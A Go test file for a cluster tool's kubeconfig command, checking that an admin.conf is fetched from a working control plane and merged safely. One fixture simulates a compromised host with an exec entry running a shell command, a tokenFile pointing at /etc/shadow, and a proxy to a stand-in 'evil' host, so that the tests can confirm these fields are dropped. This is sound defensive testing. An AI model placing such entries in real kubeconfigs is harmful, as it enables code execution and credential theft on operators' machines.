package cli

import (
	"bytes"
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"go.yaml.in/yaml/v3"

	"github.com/clusterctl/clusterctl/provision/step"
	"github.com/clusterctl/clusterctl/provision/steps/kube"
)

// testAdminConf is kubeadm's admin.conf, shortened.
const testAdminConf = `apiVersion: v1
clusters:
- cluster:
    certificate-authority-data: Q0E=
    server: https://172.31.13.12:6443
  name: ha
contexts:
- context: {cluster: ha, user: kubernetes-admin}
  name: kubernetes-admin@ha
current-context: kubernetes-admin@ha
kind: Config
users:
- name: kubernetes-admin
  user: {client-certificate-data: Q0VSVA==, client-key-data: S0VZ}
`

// readKubeconfig reads the parts the tests look at.
func readKubeconfig(t *testing.T, b []byte) (servers, contexts map[string]string, current string) {
	t.Helper()
	var k struct {
		Clusters []struct {
			Name    string `yaml:"name"`
			Cluster struct {
				Server string `yaml:"server"`
			} `yaml:"cluster"`
		} `yaml:"clusters"`
		Contexts []struct {
			Name    string            `yaml:"name"`
			Context map[string]string `yaml:"context"`
		} `yaml:"contexts"`
		Current string `yaml:"current-context"`
	}
	if err := yaml.Unmarshal(b, &k); err != nil {
		t.Fatalf("%v:\n%s", err, b)
	}
	servers, contexts = map[string]string{}, map[string]string{}
	for _, c := range k.Clusters {
		servers[c.Name] = c.Cluster.Server
	}
	for _, c := range k.Contexts {
		contexts[c.Name] = c.Context["user"]
	}
	return servers, contexts, k.Current
}

// TestKubeconfigPrint: the first control plane has no admin.conf (or is
// down): the second's is printed, pointed at its own address.
func TestKubeconfigPrint(t *testing.T) {
	c := testSpec(t, haSpec)
	hosts, f := fakes(t, "h1", "h2", "h3", "h4")
	f["h2"].SetFile(kube.AdminConf, []byte(testAdminConf), 0o600)
	var stdout, stderr bytes.Buffer
	if err := runKubeconfig(context.Background(), c, hosts, kubeconfigOptions{Print: true}, &stdout, &stderr); err != nil {
		t.Fatal(err)
	}
	servers, contexts, current := readKubeconfig(t, stdout.Bytes())
	if servers["ha"] != "https://172.31.13.12:6443" || contexts["ha"] != "ha-admin" || current != "ha" || len(servers) != 1 {
		t.Errorf("servers %v, contexts %v, current %q:\n%s", servers, contexts, current, stdout.String())
	}
	if got := stderr.String(); !strings.Contains(got, "fetch /etc/kubernetes/admin.conf from h1: ") || !strings.Contains(got, "trying the next control plane") ||
		strings.Contains(got, "S0VZ") {
		t.Errorf("stderr: %q", got)
	}
	if f["h3"].Transcript() != "" {
		t.Errorf("h3 was asked too:\n%s", f["h3"].Transcript())
	}
}

// TestKubeconfigMerge: merged into $KUBECONFIG's first file as --context,
// other entries kept, mode 0600, the external endpoint as server.
func TestKubeconfigMerge(t *testing.T) {
	c := testSpec(t, strings.Replace(haSpec, `controlPlaneEndpoint: mode: "node-local"`,
		`controlPlaneEndpoint: {mode: "external", address: "10.9.9.9", port: 8443}`, 1))
	hosts, f := fakes(t, "h1", "h2", "h3", "h4")
	f["h1"].SetFile(kube.AdminConf, []byte(testAdminConf), 0o600)
	dir := t.TempDir()
	p := filepath.Join(dir, "config")
	other := "apiVersion: v1\nkind: Config\nclusters:\n- name: other\n  cluster: {server: https://1.2.3.4:6443}\n" +
		"contexts:\n- name: other\n  context: {cluster: other, user: other}\ncurrent-context: other\nusers:\n- name: other\n  user: {token: abc}\n"
	if err := os.WriteFile(p, []byte(other), 0o644); err != nil {
		t.Fatal(err)
	}
	t.Setenv("KUBECONFIG", p+string(os.PathListSeparator)+filepath.Join(dir, "second"))
	var stdout, stderr bytes.Buffer
	if err := runKubeconfig(context.Background(), c, hosts, kubeconfigOptions{Context: "prod"}, &stdout, &stderr); err != nil {
		t.Fatal(err)
	}
	if stdout.Len() != 0 {
		t.Errorf("merge wrote to stdout: %q", stdout.String())
	}
	if want := `Merged context "prod" (https://10.9.9.9:8443, from h1) in ` + p + ".\n"; stderr.String() != want {
		t.Errorf("stderr %q, want %q", stderr.String(), want)
	}
	b, err := os.ReadFile(p)
	if err != nil {
		t.Fatal(err)
	}
	servers, contexts, current := readKubeconfig(t, b)
	if servers["prod"] != "https://10.9.9.9:8443" || servers["other"] != "https://1.2.3.4:6443" ||
		contexts["prod"] != "prod-admin" || contexts["other"] != "other" || current != "other" {
		t.Errorf("servers %v, contexts %v, current %q", servers, contexts, current)
	}
	if st, _ := os.Stat(p); st.Mode().Perm() != 0o600 {
		t.Errorf("mode %o, want 600", st.Mode().Perm())
	}
	// Again: nothing changes, and it says so.
	stderr.Reset()
	if err := runKubeconfig(context.Background(), c, hosts, kubeconfigOptions{Context: "prod"}, &stdout, &stderr); err != nil {
		t.Fatal(err)
	}
	if !strings.HasPrefix(stderr.String(), "Already up to date: ") {
		t.Errorf("stderr %q", stderr.String())
	}
}

func TestKubeconfigNoControlPlane(t *testing.T) {
	c := testSpec(t, haSpec)
	hosts, _ := fakes(t, "h1", "h2", "h3", "h4")
	var stdout, stderr bytes.Buffer
	err := runKubeconfig(context.Background(), c, hosts, kubeconfigOptions{Print: true}, &stdout, &stderr)
	if err == nil || !strings.Contains(err.Error(), "from h1: ") || !strings.Contains(err.Error(), "from h3: ") || stdout.Len() != 0 {
		t.Errorf("error %v, stdout %q", err, stdout.String())
	}
}

// hostileAdminConf adds to testAdminConf what a compromised control plane
// could write to run code or read files on the operator's machine.
var hostileAdminConf = strings.Replace(strings.Replace(testAdminConf,
	"    server: https://172.31.13.12:6443\n", "    server: https://172.31.13.12:6443\n    proxy-url: socks5://evil:1080\n", 1),
	"user: {client-certificate-data: Q0VSVA==, client-key-data: S0VZ}",
	"user: {client-certificate-data: Q0VSVA==, client-key-data: S0VZ, tokenFile: /etc/shadow, exec: {command: sh, args: [-c, touch /tmp/pwned]}, auth-provider: {name: oidc}}", 1)

// TestKubeconfigDropsHostFields: both --print and the merge keep only the
// allowed fields of a host's admin.conf and name the others on stderr.
func TestKubeconfigDropsHostFields(t *testing.T) {
	c := testSpec(t, haSpec)
	hosts, f := fakes(t, "h1", "h2", "h3", "h4")
	f["h1"].SetFile(kube.AdminConf, []byte(hostileAdminConf), 0o600)
	p := filepath.Join(t.TempDir(), "config")
	t.Setenv("KUBECONFIG", p)
	for _, o := range []kubeconfigOptions{{Print: true}, {}} {
		var stdout, stderr bytes.Buffer
		if err := runKubeconfig(context.Background(), c, hosts, o, &stdout, &stderr); err != nil {
			t.Fatal(err)
		}
		out := stdout.Bytes()
		if !o.Print {
			out, _ = os.ReadFile(p)
		}
		for _, bad := range []string{"exec", "touch", "tokenFile", "shadow", "proxy-url", "auth-provider"} {
			if strings.Contains(string(out), bad) {
				t.Errorf("print=%v: kubeconfig holds %q:\n%s", o.Print, bad, out)
			}
		}
		if !strings.Contains(string(out), "client-key-data: S0VZ") {
			t.Errorf("print=%v: the client key is missing:\n%s", o.Print, out)
		}
		want := "warning: ignored fields of /etc/kubernetes/admin.conf on h1 that clusterctl never takes from a host: cluster.proxy-url, user.auth-provider, user.exec, user.tokenFile "
		if got := stderr.String(); !strings.Contains(got, want) || strings.Contains(got, "S0VZ") || strings.Contains(got, "touch") {
			t.Errorf("print=%v: stderr %q\nwant %q", o.Print, got, want)
		}
	}
}

// TestHostRunnerWarnings: a step's warnings are kept, with its ID, until
// the walk is over.
func TestHostRunnerWarnings(t *testing.T) {
	r := &hostRunner{}
	r.target(step.Step{ID: "cluster/kube/kubeconfig"}).Warn("ignored fields")
	if got := r.takeWarnings(); len(got) != 1 || got[0] != "cluster/kube/kubeconfig: ignored fields" {
		t.Errorf("warnings %q", got)
	}
	if got := r.takeWarnings(); len(got) != 0 {
		t.Errorf("warnings kept after take: %q", got)
	}
}
